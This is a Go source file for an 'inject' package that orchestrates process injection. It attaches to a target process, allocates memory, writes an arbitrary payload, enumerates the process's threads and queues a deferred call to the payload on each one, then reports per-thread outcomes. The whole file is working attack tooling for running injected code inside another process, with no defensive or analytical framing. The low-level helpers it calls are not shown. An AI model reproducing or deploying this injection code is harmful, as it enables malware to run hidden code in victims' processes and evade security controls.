// Package inject sequences a full run: attach, allocate, write, enumerate and
// queue the payload on every thread of the target.
package inject

import (
	"fmt"

	"github.com/Moonlight-Companies/gologger/coloransi"
	"github.com/Moonlight-Companies/gologger/logger"

	"apcqueue/hexdump"
	"apcqueue/process"
	"apcqueue/remote"
)

// Stage names a process-level step of a run
type Stage string

const (
	StageAttach    Stage = "attach"
	StageAllocate  Stage = "allocate"
	StageWrite     Stage = "write"
	StageVerify    Stage = "verify"
	StageEnumerate Stage = "enumerate"
)

// StageError is returned when a process-level step fails and the run stops
type StageError struct {
	Stage Stage
	Err   error
}

func (e *StageError) Error() string {
	return fmt.Sprintf("%s: %v", e.Stage, e.Err)
}

func (e *StageError) Unwrap() error {
	return e.Err
}

type Options struct {
	// VerifyWrite reads the payload back before any thread is touched
	VerifyWrite bool

	// PreviewBytes of the payload are hexdumped to the debug log; 0 disables it
	PreviewBytes int
}

// Injector runs injections against a single OS environment
type Injector struct {
	env  remote.Env
	opts Options
	log  *logger.Logger
}

func New(env remote.Env, opts Options) *Injector {
	return &Injector{
		env:  env,
		opts: opts,
		log:  logger.NewLogger(coloransi.Color(coloransi.ColorPurple, coloransi.ColorOrange, "inject")),
	}
}

// Run places payload in the process selected by id and queues it on each of its
// threads. Process-level failures stop the run and come back as *StageError; thread
// failures are recorded in the report and never stop the run. Nothing is rolled back.
func (i *Injector) Run(id process.TargetIdentifier, payload []byte) (*Report, error) {
	report := newReport(id, len(payload))

	proc, err := remote.Attach(i.env, id)
	if err != nil {
		return report, &StageError{Stage: StageAttach, Err: err}
	}
	defer proc.Close()

	report.PID = proc.PID()
	i.log.Infoln("Run", report.RunID, "attached to PID", report.PID)

	if i.opts.PreviewBytes > 0 {
		i.log.Debugln("Payload preview:\n" + hexdump.Preview(payload, 0, i.opts.PreviewBytes))
	}

	if err := proc.AllocateMemory(process.ProcessMemorySize(len(payload))); err != nil {
		return report, &StageError{Stage: StageAllocate, Err: err}
	}
	report.Address = proc.Address()

	if err := proc.WriteMemory(payload); err != nil {
		return report, &StageError{Stage: StageWrite, Err: err}
	}

	if i.opts.VerifyWrite {
		if err := proc.VerifyMemory(payload); err != nil {
			return report, &StageError{Stage: StageVerify, Err: err}
		}
	}

	threads, err := remote.EnumerateThreads(i.env, report.PID)
	if err != nil {
		return report, &StageError{Stage: StageEnumerate, Err: err}
	}
	defer threads.Close()

	for _, t := range threads.Threads() {
		report.Threads = append(report.Threads, i.queueOn(t, report.Address))
	}

	i.log.Infoln("Finished queuing across", len(report.Threads), "threads:",
		report.Queued(), "queued,", report.Skipped(), "skipped. Awaiting execution if successful")
	return report, nil
}

func (i *Injector) queueOn(t *remote.Thread, addr process.ProcessMemoryAddress) ThreadOutcome {
	outcome := ThreadOutcome{ThreadID: t.ThreadID}

	if err := t.CreateHandle(); err != nil {
		i.log.Warn("Skipping thread ", t.ThreadID, ": ", err)
		outcome.Outcome = OutcomeHandleFailed
		outcome.Err = err
		return outcome
	}
	defer t.Close()

	if err := t.QueueDeferredCall(addr); err != nil {
		i.log.Warn("Queuing on thread ", t.ThreadID, " failed: ", err)
		outcome.Outcome = OutcomeQueueFailed
		outcome.Err = err
		return outcome
	}

	outcome.Outcome = OutcomeQueued
	return outcome
}
